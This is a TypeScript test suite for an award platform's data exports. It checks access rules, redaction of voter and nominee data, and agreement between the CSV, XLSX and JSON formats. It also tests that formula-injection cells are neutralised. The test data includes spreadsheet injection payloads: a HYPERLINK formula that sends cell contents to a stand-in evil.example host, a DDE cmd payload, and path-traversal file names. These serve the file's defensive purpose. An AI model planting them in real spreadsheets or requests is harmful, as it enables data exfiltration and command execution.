import { createHmac, randomUUID } from "node:crypto";
import naughty from "big-list-of-naughty-strings";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "~/db.server";
import { translator } from "~/i18n/i18n";
import { redactNominee } from "~/modules/awards/redact.server";
import { AWARD_DATASETS, DATASET_COLUMNS, type AwardDataset } from "~/modules/exports/award-datasets.server";
import { FORMATS, type ExportFormat } from "~/modules/exports/writers.server";
import { declareConflict, saveScores } from "~/modules/jury/jury.server";
import { castBallot } from "~/modules/voting/ballot.server";
import { voidBallots } from "~/modules/voting/fraud.server";
import { candidateSource, loadVotingRound } from "~/modules/voting/round.server";
import { neutraliseCsv } from "~/modules/exports/cells";
import { createUser } from "../setup/factories";
import { csvText, download, exportText, parseCsv, parseJson, parseXlsx, sheetText, type Download, type JsonValue } from "../setup/exports";
import { startTestServer, type TestServer } from "../setup/http";
import { addJuror, createJuryRound, type JuryFixture } from "../setup/jury";
import { createVoteRound, createVoters, rowCounts, sessionFor, talliesInHtml, type VoteRound } from "../setup/voting";

// Organizer exports of an award edition: who may download them, what they may never contain, formula
// neutralisation, the three formats agreeing value for value, and counts equal to the rows.

let app: TestServer;

/** Payloads that spreadsheets would run as formulas: the naughty strings starting with = + - @ tab CR, and OWASP's. */
const FORMULAS = [
  ...(naughty as string[]).filter((s) => /^[=+\-@\t\r]/.test(s) && !s.includes("\u0000")),
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+1",
  "\t=1+1",
  "\r=1+1",
  "=1+1\r\n=2+2",
];
const FORMULA_NAMES = ['=HYPERLINK("https://evil.example","Klik")', "+31 6 1234", "-Anne Kort", "@annekort", "\t=Tab Naam"];

interface Fixture {
  f: JuryFixture;
  other: VoteRound & { organizerCookie: string; nomineeName: string };
  base: string;
  voters: Array<{ id: string; email: string; name: string }>;
  nominators: Array<{ id: string; email: string; name: string }>;
  jurors: Array<{ user: { id: string; email: string; name: string }; cookie: string }>;
  secrets: string[];
  emails: string[];
  formulaNominees: string[];
  hiddenNominees: string[];
}
let fx: Fixture;
/** Every dataset × format as downloaded by the organizer. */
const files = new Map<string, Download>();
const key = (d: AwardDataset, f: ExportFormat) => `${d}.${f}`;

async function cast(
  round: Awaited<ReturnType<typeof loadVotingRound>>,
  categoryId: string,
  voter: { id: string; email: string },
  choices: string[],
) {
  const r = await castBallot(getDb(), {
    round,
    sourceRoundId: await candidateSource(getDb(), round),
    categoryId,
    voter: { id: voter.id, email: voter.email, name: "Kiezer", locale: "nl", emailVerified: true },
    choices,
    ip: "192.0.2.7",
    device: "apparaat-hash",
    mail: { award: "x", category: "y", link: "z" },
  });
  expect(r.ok).toBe(true);
}

async function build(): Promise<Fixture> {
  const db = getDb();
  const tag = randomUUID().slice(0, 8);
  const f = await createJuryRound({
    categories: 2,
    candidatesPerCategory: 3,
    closesIn: 7200,
    vote: { opensIn: -60, closesIn: 3600, mode: "ranked", max: 2, allowChange: true },
  });
  const [cat0, cat1] = f.categoryIds as [string, string];
  // Candidates whose names are formulas.
  const formulaNominees: string[] = [];
  for (const name of FORMULA_NAMES) {
    const row = await db
      .insertInto("nominee")
      .values({
        edition_id: f.editionId,
        category_id: cat0,
        kind: "person",
        name,
        organisation: "=ORG()",
        status: "approved",
        consent_status: "accepted",
      })
      .returning("id")
      .executeTakeFirstOrThrow();
    formulaNominees.push(row.id);
  }
  // Nominations with formula motivations, each by its own nominator (named, with an e-mail address).
  const nominators = [];
  const targets = [...f.candidates[cat0]!, ...formulaNominees];
  for (const [i, motivation] of FORMULAS.entries()) {
    const u = await createUser({ name: `Indiener ${tag}-${i}`, email: `indiener-${tag}-${i}@example.nl` });
    nominators.push(u);
    await db
      .insertInto("nomination")
      .values({
        edition_id: f.editionId,
        nominee_id: targets[i % targets.length]!,
        submitted_for_nominee_id: targets[i % targets.length]!,
        nominator_id: u.id,
        motivation,
        video_url: i === 0 ? "https://video.example/pitch" : null,
        is_supporting: i % 3 === 1,
      })
      .execute();
  }
  const firstNomination = await db
    .selectFrom("nomination")
    .select("id")
    .where("nominator_id", "=", nominators[0]!.id)
    .executeTakeFirstOrThrow();
  const refEmail = `referent-${tag}@example.nl`;
  await db
    .insertInto("nomination_reference")
    .values({
      nomination_id: firstNomination.id,
      position: 1,
      name: "Referent Rik",
      email: refEmail,
      token_hash: `hash-${tag}`,
      expires_at: new Date(Date.now() + 86_400_000),
      statement: "Een voorbeeld voor iedereen.",
      submitted_at: new Date(),
    })
    .execute();

  // A nominee who declined: erased through the real flow (names gone from the database) …
  const erasedName = `Gewiste Gerda ${tag}`;
  const erased = await db
    .insertInto("nominee")
    .values({
      edition_id: f.editionId,
      category_id: cat1,
      kind: "person",
      name: erasedName,
      organisation: "Geheim Bureau",
      contact_email: `gerda-${tag}@example.nl`,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  await db
    .insertInto("nomination")
    .values({
      edition_id: f.editionId,
      nominee_id: erased.id,
      submitted_for_nominee_id: erased.id,
      nominator_id: nominators[1]!.id,
      motivation: `Over Gerda ${tag}`,
    })
    .execute();
  await db.transaction().execute((trx) => redactNominee(trx, erased.id, false));
  // … and one whose consent is declined while the row still holds the name: the export must not show it either.
  const declinedName = `Weigerende Wim ${tag}`;
  const declined = await db
    .insertInto("nominee")
    .values({
      edition_id: f.editionId,
      category_id: cat1,
      kind: "person",
      name: declinedName,
      organisation: `Wims Werkplaats ${tag}`,
      contact_email: `wim-${tag}@example.nl`,
      status: "approved",
      consent_status: "declined",
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  await db
    .insertInto("nomination")
    .values({
      edition_id: f.editionId,
      nominee_id: declined.id,
      submitted_for_nominee_id: declined.id,
      nominator_id: nominators[2]!.id,
      motivation: `Wims motivatie ${tag}`,
    })
    .execute();
  // A pending nominee with a contact address (organizers see the nominee, never the address).
  const pendingEmail = `pending-${tag}@example.nl`;
  const pending = await db
    .insertInto("nominee")
    .values({ edition_id: f.editionId, category_id: cat1, kind: "person", name: `Wachtende Wendy ${tag}`, contact_email: pendingEmail })
    .returning("id")
    .executeTakeFirstOrThrow();
  await db
    .insertInto("nomination")
    .values({
      edition_id: f.editionId,
      nominee_id: pending.id,
      submitted_for_nominee_id: pending.id,
      nominator_id: nominators[3]!.id,
      motivation: "Wacht nog",
    })
    .execute();

  // Ballots: every voter ranks two in category 0 and one in category 1; one changes, one is voided.
  const voters = (await createVoters(6, `kiezers-${tag}.example`)).map((v, i) => ({ ...v, name: `Kiezer ${tag}-${i}` }));
  for (const v of voters) await db.updateTable("app_user").set({ name: v.name }).where("id", "=", v.id).execute();
  const round = await loadVotingRound(db, f.editionId, "1");
  const c0 = [...f.candidates[cat0]!, ...formulaNominees];
  for (const [i, v] of voters.entries()) {
    await cast(round, cat0, v, [c0[i % c0.length]!, c0[(i + 3) % c0.length]!]);
    await cast(round, cat1, v, [f.candidates[cat1]![i % 3]!]);
  }
  await cast(round, cat0, voters[0]!, [formulaNominees[0]!]); // changed: version 2 with one choice
  const toVoid = await db
    .selectFrom("ballot")
    .select("id")
    .where("round_id", "=", f.roundId)
    .where("voter_id", "=", voters[1]!.id)
    .where("category_id", "=", cat1)
    .executeTakeFirstOrThrow();
  expect(await voidBallots(db, { actorId: f.organizer.user.id }, f.roundId, [toVoid.id], "=dubbel account")).toBe(1);

  // Jury: two jurors score some candidates; the second declares a conflict.
  const jurors = [await addJuror(f), await addJuror(f)];
  const [impact, together] = [f.criteria[0]!, f.criteria[1]!];
  for (const [j, juror] of jurors.entries()) {
    for (const [n, nominee] of [f.candidates[cat0]![0]!, f.candidates[cat0]![1]!, formulaNominees[0]!, f.candidates[cat1]![0]!].entries()) {
      if (j === 1 && n === 1) continue;
      expect(
        await saveScores(db, juror.user.id, { id: f.juryRoundId }, nominee, [
          { criterionId: impact.id, score: 4 + n + j, comment: n === 0 ? "=Sterk verhaal" : "" },
          { criterionId: together.id, score: 2 + ((n + j) % 3), comment: "" },
        ]),
      ).toEqual({ ok: true });
    }
  }
  expect(
    await declareConflict(db, { actorId: jurors[1]!.user.id }, { id: f.juryRoundId }, f.candidates[cat0]![1]!, "-Oud-collega"),
  ).toEqual({
    ok: true,
  });

  // Prizes, added through the organizer page.
  const admin = `/beheer/prijzen/${f.slug}/2026/uitslag?intent=prize`;
  const prizeForms: Array<Record<string, string>> = [
    { kind: "public", nameNl: "Publieksprijs", nameEn: "Public prize", voteRound: "1", places: "3" },
    { kind: "jury", nameNl: "Juryprijs", nameEn: "Jury prize", juryRound: "2", places: "1" },
    {
      kind: "combined",
      nameNl: "Eindklassering",
      nameEn: "Final ranking",
      voteRound: "1",
      juryRound: "2",
      publicWeight: "40",
      juryWeight: "60",
      places: "3",
    },
  ];
  for (const form of prizeForms) {
    expect((await app.request(admin, { form, headers: { cookie: f.organizer.cookie } })).status).toBe(303);
  }

  // Another award's edition: one of our voters votes there too; its nominee must never show up in ours.
  const otherRound = await createVoteRound({ mode: "single" });
  const nomineeName = `Buurman Bert ${tag}`;
  const otherCat = otherRound.categoryIds[0]!;
  await db.updateTable("nominee").set({ name: nomineeName }).where("id", "=", otherRound.candidates[otherCat]![0]!).execute();
  await cast(await loadVotingRound(db, otherRound.editionId, "1"), otherCat, voters[0]!, [otherRound.candidates[otherCat]![0]!]);
  const otherOrganizer = await createUser();
  await db
    .insertInto("role_grant")
    .values({ user_id: otherOrganizer.id, role: "organizer", award_id: otherRound.awardId, edition_id: null, book_project_id: null })
    .execute();

  return {
    f,
    other: { ...otherRound, organizerCookie: await sessionFor(otherOrganizer.id), nomineeName },
    base: `/beheer/prijzen/${f.slug}/2026/export`,
    voters,
    nominators,
    jurors,
    secrets: [
      erasedName,
      "Geheim Bureau",
      `Over Gerda ${tag}`,
      declinedName,
      `Wims Werkplaats ${tag}`,
      `Wims motivatie ${tag}`,
      "Referent Rik",
    ],
    emails: [refEmail, `gerda-${tag}@example.nl`, `wim-${tag}@example.nl`, pendingEmail],
    formulaNominees,
    hiddenNominees: [erased.id, declined.id],
  };
}

beforeAll(async () => {
  app = await startTestServer();
  fx = await build();
  for (const d of AWARD_DATASETS) {
    for (const format of FORMATS) files.set(key(d, format), await download(app, `${fx.base}/${d}.${format}`, fx.f.organizer.cookie));
  }
}, 900_000);
afterAll(() => app.close());

const json = (d: AwardDataset) => parseJson(files.get(key(d, "json"))!.bytes);

describe("award exports: who may download", () => {
  it("gives the organizer of the award every dataset in every format, with the right type and file name", () => {
    const types = {
      csv: "text/csv; charset=utf-8",
      xlsx: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      json: "application/json; charset=utf-8",
    };
    for (const d of AWARD_DATASETS) {
      for (const format of FORMATS) {
        const file = files.get(key(d, format))!;
        expect(file.status, `${d}.${format}`).toBe(200);
        expect(file.headers.get("content-type")).toBe(types[format]);
        expect(file.headers.get("content-disposition")).toMatch(
          new RegExp(`^attachment; filename="lauwer-${d}-${fx.f.slug}-2026-\\d{4}-\\d\\d-\\d\\d\\.${format}"$`),
        );
        expect(file.headers.get("cache-control")).toBe("no-store");
      }
    }
  });

  it("refuses an organizer of another award, a juror of the edition and a member (403); sends a visitor to log in", async () => {
    const member = await createUser();
    const memberCookie = await sessionFor(member.id);
    for (const d of AWARD_DATASETS) {
      for (const format of FORMATS) {
        const path = `${fx.base}/${d}.${format}`;
        expect((await app.request(path, { headers: { cookie: fx.other.organizerCookie } })).status, path).toBe(403);
        expect((await app.request(path, { headers: { cookie: fx.jurors[0]!.cookie } })).status, path).toBe(403);
        expect((await app.request(path, { headers: { cookie: memberCookie } })).status, path).toBe(403);
        const visitor = await app.request(path);
        expect(visitor.status).toBe(302);
        expect(visitor.headers.get("location")).toBe(`/inloggen?redirectTo=${encodeURIComponent(path)}`);
      }
    }
    for (const cookie of [fx.other.organizerCookie, fx.jurors[0]!.cookie, memberCookie]) {
      expect((await app.request(fx.base, { headers: { cookie } })).status).toBe(403);
    }
    expect((await app.request(fx.base)).status).toBe(302);
  });

  it("answers 404 for an unknown dataset or format, and for another edition's address", async () => {
    const cookie = fx.f.organizer.cookie;
    for (const file of [
      "onbekend.csv",
      "stemmen.pdf",
      "stemmen",
      "stemmen.csv.exe",
      "STEMMEN.CSV",
      "stemmen.",
      ".csv",
      "%2e%2e%2fstemmen.csv",
      "stemmen.json%00",
    ]) {
      expect((await app.request(`${fx.base}/${file}`, { headers: { cookie } })).status, file).toBe(404);
    }
    expect((await app.request(`/beheer/prijzen/${fx.f.slug}/1999/export/stemmen.csv`, { headers: { cookie } })).status).toBe(404);
    expect((await app.request(`/beheer/prijzen/${fx.f.slug}/1999/export`, { headers: { cookie } })).status).toBe(404);
  });

  it("records an audit entry for every export, by the organizer, for the edition", async () => {
    const rows = await getDb()
      .selectFrom("audit_log")
      .select(["actor_id", "after"])
      .where("action", "=", "export")
      .where("entity_type", "=", "edition")
      .where("entity_id", "=", fx.f.editionId)
      .execute();
    for (const d of AWARD_DATASETS) {
      for (const format of FORMATS) {
        expect(
          rows.some(
            (r) =>
              r.actor_id === fx.f.organizer.user.id &&
              (r.after as { dataset?: string }).dataset === d &&
              (r.after as { format?: string }).format === format,
          ),
          `${d}.${format}`,
        ).toBe(true);
      }
    }
    // Refused requests leave no export entry.
    expect(rows.every((r) => r.actor_id === fx.f.organizer.user.id)).toBe(true);
  });
});

describe("award exports: visibility (searched in the bytes of all three formats)", () => {
  it("never puts a voter's identity in the ballots: no user id, e-mail, name, IP address or device", () => {
    for (const format of FORMATS) {
      const text = exportText(format, files.get(key("stemmen", format))!.bytes);
      for (const v of fx.voters) {
        expect(text).not.toContain(v.id);
        expect(text).not.toContain(v.email);
        expect(text).not.toContain(v.name);
      }
      expect(text).not.toContain("192.0.2.7");
      expect(text).not.toContain("apparaat-hash");
    }
  });

  it("contains nobody's e-mail address in any export", () => {
    const addresses = [
      ...fx.voters.map((v) => v.email),
      ...fx.nominators.map((n) => n.email),
      ...fx.jurors.map((j) => j.user.email),
      fx.f.organizer.user.email,
      ...fx.emails,
    ];
    for (const d of AWARD_DATASETS) {
      for (const format of FORMATS) {
        const text = exportText(format, files.get(key(d, format))!.bytes);
        for (const a of addresses) expect(text, `${a} in ${d}.${format}`).not.toContain(a);
        expect(text, `${d}.${format}`).not.toMatch(/[\w.+-]+@[\w-]+\.(nl|example)\b/);
      }
    }
  });

  it("shows nothing of a declined or erased nominee, and nothing of another edition", () => {
    for (const d of AWARD_DATASETS) {
      for (const format of FORMATS) {
        const text = exportText(format, files.get(key(d, format))!.bytes);
        for (const s of fx.secrets) expect(text, `${s} in ${d}.${format}`).not.toContain(s);
        expect(text).not.toContain(fx.other.nomineeName);
        for (const ids of Object.values(fx.other.candidates)) for (const id of ids) expect(text).not.toContain(id);
      }
    }
    // The declined nominee's nomination is still listed (counts stay right), its status shown, its content empty.
    const hidden = json("nominaties").filter((r) => fx.hiddenNominees.includes(r.nomineeId as string));
    expect(hidden).toHaveLength(2);
    expect(hidden.map((r) => r.nomineeStatus).sort()).toEqual(
      [translator("nl")("exports.values.redacted"), translator("nl")("exports.values.status.approved")].sort(),
    );
    for (const r of hidden) {
      expect([r.nomineeName, r.organisation, r.motivation, r.video]).toEqual(["", "", "", ""]);
    }
  });

  it("keeps each voter's pseudonym stable within the edition, different in another edition, and never the raw id", async () => {
    const rows = json("stemmen");
    const salt = (await getDb().selectFrom("edition").select("export_salt").where("id", "=", fx.f.editionId).executeTakeFirstOrThrow())
      .export_salt;
    const expected = (voterId: string, s: string) => createHmac("sha256", s).update(voterId).digest("hex").slice(0, 16);
    const mine = expected(fx.voters[0]!.id, salt);
    // Voter 0: a changed ballot in category 0 (one choice) and a ballot in category 1.
    expect(rows.filter((r) => r.voter === mine)).toHaveLength(2);
    expect(new Set(rows.map((r) => r.voter)).size).toBe(fx.voters.length);
    for (const r of rows) expect(r.voter).toMatch(/^[0-9a-f]{16}$/);
    // The same voter in another edition: another pseudonym (that edition's own secret).
    const cookie = fx.other.organizerCookie;
    const otherBallots = parseJson((await download(app, `/beheer/prijzen/${fx.other.slug}/2026/export/stemmen.json`, cookie)).bytes);
    expect(otherBallots).toHaveLength(1);
    const otherSalt = (
      await getDb().selectFrom("edition").select("export_salt").where("id", "=", fx.other.editionId).executeTakeFirstOrThrow()
    ).export_salt;
    expect(otherSalt).not.toBe(salt);
    expect(otherBallots[0]!.voter).toBe(expected(fx.voters[0]!.id, otherSalt));
    expect(otherBallots[0]!.voter).not.toBe(mine);
  });
});

describe("award exports: formula injection", () => {
  it("neutralises formula names, motivations, reasons and comments in CSV and XLSX; JSON keeps the data as it is", async () => {
    const nominations = json("nominaties");
    for (const payload of FORMULAS)
      expect(
        nominations.some((r) => r.motivation === payload),
        JSON.stringify(payload),
      ).toBe(true);
    const payloads = [...FORMULAS, ...FORMULA_NAMES, "=dubbel account", "=Sterk verhaal", "-Oud-collega", "=ORG()"];
    for (const d of AWARD_DATASETS) {
      const { rows: csvRows } = parseCsv(files.get(key(d, "csv"))!.bytes);
      const { rows: sheetRows } = await parseXlsx(files.get(key(d, "xlsx"))!.bytes);
      for (const row of csvRows) for (const cell of row) expect(cell, `${d}.csv`).not.toMatch(/^[=+\-@\t\r]/);
      for (const row of sheetRows) {
        row.eachCell((cell) => {
          expect(cell.type, `${d}.xlsx`).not.toBe(6 /* ExcelJS.ValueType.Formula */);
          if (typeof cell.value !== "number") expect(cell.text, `${d}.xlsx ${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
        });
      }
    }
    // Each payload that reached a cell comes out with the apostrophe in CSV.
    const allCsv = AWARD_DATASETS.flatMap((d) => parseCsv(files.get(key(d, "csv"))!.bytes).rows.flat());
    for (const p of payloads) expect(allCsv, JSON.stringify(p)).toContain(neutraliseCsv(p));
  });
});

describe("award exports: the three formats agree", () => {
  it("has the same rows in the same order in XLSX (re-read with ExcelJS) and CSV (csv-parse) as in JSON, headers in the reader's language", async () => {
    for (const d of AWARD_DATASETS) {
      const data = json(d);
      const keys = [...DATASET_COLUMNS[d]];
      const t = translator("nl");
      const headers = keys.map((k) => t(`exports.columns.${k}`));
      for (const row of data) expect(Object.keys(row)).toEqual(keys);

      const csv = parseCsv(files.get(key(d, "csv"))!.bytes);
      expect(csv.header).toEqual(headers);
      expect(csv.rows).toHaveLength(data.length);
      csv.rows.forEach((row, i) => expect(row, `${d}.csv row ${i}`).toEqual(keys.map((k) => csvText(data[i]![k]!))));

      const xlsx = await parseXlsx(files.get(key(d, "xlsx"))!.bytes);
      expect(xlsx.header).toEqual(headers);
      expect(xlsx.rows).toHaveLength(data.length);
      xlsx.rows.forEach((row, i) => {
        keys.forEach((k, c) => {
          const v: JsonValue = data[i]![k]!;
          const cell = row.getCell(c + 1);
          if (typeof v === "number" || typeof v === "boolean") expect(cell.value, `${d}.xlsx ${cell.address}`).toBe(v);
          else expect(cell.text, `${d}.xlsx ${cell.address}`).toBe(v === null ? "" : sheetText(v));
        });
      });
    }
  });

  it("writes headers and values in English for an English reader", async () => {
    const res = await app.request(`${fx.base}/kandidaten.csv`, { headers: { cookie: `${fx.f.organizer.cookie}; lauwer_lang=en` } });
    const { header, rows } = parseCsv(Buffer.from(await res.arrayBuffer()));
    expect(header).toEqual(DATASET_COLUMNS.kandidaten.map((k) => translator("en")(`exports.columns.${k}`)));
    expect(header[1]).toBe("Candidate");
    expect(rows[0]![2]).toBe("person");
    expect(rows[0]![4]).toBe("Category 0");
  });
});

describe("award exports: counts equal the rows (drift 0)", () => {
  it("has one ballot row per ballot choice in the database, voided ones marked", async () => {
    const n = await sql<{ n: number; voided: number }>`
      select count(*)::int as n, (count(*) filter (where b.voided_at is not null))::int as voided
      from ballot_choice c join ballot b on b.id = c.ballot_id where b.edition_id = ${fx.f.editionId}`.execute(getDb());
    const rows = json("stemmen");
    expect(rows).toHaveLength(n.rows[0]!.n);
    expect(rows.filter((r) => r.voided === true)).toHaveLength(n.rows[0]!.voided);
    expect(n.rows[0]!.voided).toBe(1);
    expect(rows.find((r) => r.voided === true)!.voidReason).toBe("=dubbel account");
    expect(rows.filter((r) => r.version === 2)).toHaveLength(1);
  });

  it("exports the tallies the organizer's vote page shows, and the rows count them", async () => {
    const page = await (
      await app.request(`/beheer/prijzen/${fx.f.slug}/2026/stemmen/1`, { headers: { cookie: fx.f.organizer.cookie } })
    ).text();
    const shown = talliesInHtml(page);
    const tallies = json("tellingen");
    const exported = new Map(tallies.map((r) => [r.candidateId as string, r.votes as number]));
    expect(shown.size).toBeGreaterThan(0);
    expect(exported).toEqual(shown);
    const counted = await rowCounts(fx.f.roundId);
    for (const [id, votes] of exported) expect(votes).toBe(counted.get(id) ?? 0);
    // Ranked round: points and first preferences are given, ballots per category exclude the voided one.
    const cat1 = tallies.filter((r) => r.category === "Categorie 1");
    expect(cat1.every((r) => r.ballots === fx.voters.length - 1)).toBe(true);
    expect(tallies.every((r) => typeof r.points === "number" && typeof r.first === "number")).toBe(true);
  });

  it("lists exactly the candidates, and the export page shows each file's row count as exported", async () => {
    const candidates = await getDb()
      .selectFrom("nominee")
      .select("id")
      .where("edition_id", "=", fx.f.editionId)
      .where("is_candidate", "=", true)
      .execute();
    expect(new Set(json("kandidaten").map((r) => r.candidateId))).toEqual(new Set(candidates.map((c) => c.id)));
    expect(json("kandidaten")).toHaveLength(candidates.length);
    const nominations = await getDb().selectFrom("nomination").select("id").where("edition_id", "=", fx.f.editionId).execute();
    expect(json("nominaties")).toHaveLength(nominations.length);

    const page = await app.request(fx.base, { headers: { cookie: fx.f.organizer.cookie } });
    expect(page.status).toBe(200);
    const html = await page.text();
    for (const d of AWARD_DATASETS) {
      const m = new RegExp(`data-dataset="${d}"[\\s\\S]*?data-rows="(\\d+)"`).exec(html);
      expect(Number(m?.[1]), d).toBe(json(d).length);
      for (const format of FORMATS) expect(html).toContain(`href="${fx.base}/${d}.${format}"`);
    }
    expect(html).toContain(`href="/beheer/prijzen/${fx.f.slug}/auditlog"`);
    // Every dataset has rows in this fixture, so each count above is a real check.
    for (const d of AWARD_DATASETS) expect(json(d).length, d).toBeGreaterThan(0);
  });

  it("exports jury scores per juror, candidate and criterion with conflicts, and the dashboard's aggregate", async () => {
    const scores = json("jurycijfers");
    const inDb = await getDb().selectFrom("jury_score").select("score").where("round_id", "=", fx.f.juryRoundId).execute();
    expect(scores.filter((r) => r.conflict === false)).toHaveLength(inDb.length);
    const conflicts = scores.filter((r) => r.conflict === true);
    expect(conflicts).toEqual([
      expect.objectContaining({ juror: fx.jurors[1]!.user.name, candidateId: fx.f.candidates[fx.f.categoryIds[0]!]![1], score: null }),
    ]);
    // Candidate A0: juror 1 gave 4/10 and 2/5, juror 2 gave 5/10 and 3/5 (weights 2 and 1):
    // (2·3/9 + 2/5)/3 = 35.5556 and (2·4/9 + 3/5)/3 = 49.6296 on 0–100, mean 42.5926; both others scored higher.
    const results = json("juryuitslag");
    const a0 = results.find((r) => r.candidateId === fx.f.candidates[fx.f.categoryIds[0]!]![0]);
    expect(a0).toMatchObject({ aggregate: 42.5926, jurors: 2, min: 35.5556, max: 49.6296, tooFew: false, place: 3 });
    // And every aggregate is the one the organizer's jury page shows for that candidate.
    const page = await (
      await app.request(`/beheer/prijzen/${fx.f.slug}/2026/jury/2`, { headers: { cookie: fx.f.organizer.cookie } })
    ).text();
    const pageRows = page.split("</tr>");
    const scored = results.filter((r) => r.jurors !== 0 && String(r.candidate).startsWith("Kandidaat"));
    expect(scored.length).toBeGreaterThanOrEqual(3);
    for (const r of scored) {
      const row = pageRows.find((html) => html.includes(`>${String(r.candidate)}`));
      // The export carries the number; the Dutch dashboard writes it with one decimal and a comma.
      expect(row, String(r.candidate)).toContain(`>${(r.aggregate as number).toFixed(1).replace(".", ",")}<`);
    }
    const prizes = json("uitslag");
    expect(new Set(prizes.map((r) => r.prize))).toEqual(new Set(["Publieksprijs", "Juryprijs", "Eindklassering"]));
  });
});

describe("award exports at size", () => {
  it("exports 20,000 ballot choices, one row each", async () => {
    const db = getDb();
    const r = await createVoteRound({ mode: "ranked", max: 2, categories: 1 });
    const org = await createUser();
    await db
      .insertInto("role_grant")
      .values({ user_id: org.id, role: "organizer", award_id: r.awardId, edition_id: null, book_project_id: null })
      .execute();
    const voters = await createVoters(10_000);
    const cat = r.categoryIds[0]!;
    const [a, b] = r.candidates[cat]! as [string, string];
    await sql`with b as (
        insert into ballot (round_id, edition_id, category_id, voter_id, receipt_code)
        select ${r.roundId}, ${r.editionId}, ${cat}, v, 'X' || md5(v::text)
        from unnest(${voters.map((v) => v.id)}::uuid[]) v
        returning id
      )
      insert into ballot_choice (ballot_id, category_id, nominee_id, rank)
      select b.id, ${cat}, x.nominee, x.rank from b cross join (values (${a}::uuid, 1), (${b}::uuid, 2)) x(nominee, rank)`.execute(db);
    const cookie = await sessionFor(org.id);
    const path = `/beheer/prijzen/${r.slug}/2026/export/stemmen.csv`;
    const res = await download(app, path, cookie);
    expect(res.status).toBe(200);
    const { rows } = parseCsv(res.bytes);
    expect(rows).toHaveLength(20_000);
    expect(new Set(rows.map((row) => row[3])).size).toBe(10_000);

    // Downloads broken off after the first bytes give their database connection back: more of them
    // than the pool holds (10), and the export still works afterwards.
    for (let i = 0; i < 14; i++) {
      const abort = new AbortController();
      const partial = await app.request(path, { headers: { cookie }, signal: abort.signal });
      expect(partial.status).toBe(200);
      await partial.body!.getReader().read();
      abort.abort();
    }
    const again = await download(app, path, cookie);
    expect(parseCsv(again.bytes).rows).toHaveLength(20_000);
    // The timeout only guards against a hang (a busy CI machine once took over a minute here).
  }, 1_800_000);
});
